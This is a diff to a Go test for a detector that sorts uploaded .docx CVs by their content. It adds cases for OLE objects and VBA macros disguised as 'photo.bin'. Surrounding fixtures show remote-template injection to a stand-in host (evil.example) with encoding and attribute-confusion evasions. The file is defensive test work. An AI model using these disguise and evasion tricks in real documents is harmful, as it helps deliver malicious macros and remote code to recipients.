@@ -87,6 +87,8 @@ func TestACVIsToldByItsContent(t *testing.T) {
 		"one that says two things":          {docx(t, "word/_rels/settings.xml.rels", `<Relationship xmlns:x="y" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External" x:TargetMode="Internal"/>`), "", "cv.active"},
 		"one whose letters are written out": {docx(t, "word/_rels/settings.xml.rels", `<Relationship Type="http://x/attached&#84;emplate" Target="https://evil.example/a.dotm" TargetMode="&#69;xternal"/>`), "", "cv.active"},
 		"one in UTF-16":                     {docx(t, "word/_rels/settings.xml.rels", wide(`<?xml version="1.0" encoding="UTF-16"?><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`)), "", "cv.damaged"},
+		"an object under another name":      {docx(t, "word/embeddings/photo.bin", "x", "word/_rels/document.xml.rels", `<Relationship Type="http://x/oleObject" Target="embeddings/photo.bin"/>`), "", "cv.active"},
+		"macros under another name":         {docx(t, "word/photo.bin", "x", "word/_rels/document.xml.rels", `<Relationship Type="http://x/vbaProject" Target="photo.bin"/>`), "", "cv.active"},
 		"an ActiveX control":                {docx(t, "word/activeX/activeX1.xml", "x"), "", "cv.active"},
 		"a packed object":                   {docx(t, "word/embeddings/oleObject3.bin", "x"), "", "cv.active"},
 		"a program inside":                  {docx(t, "word/media/image1.exe", "x"), "", "cv.active"},
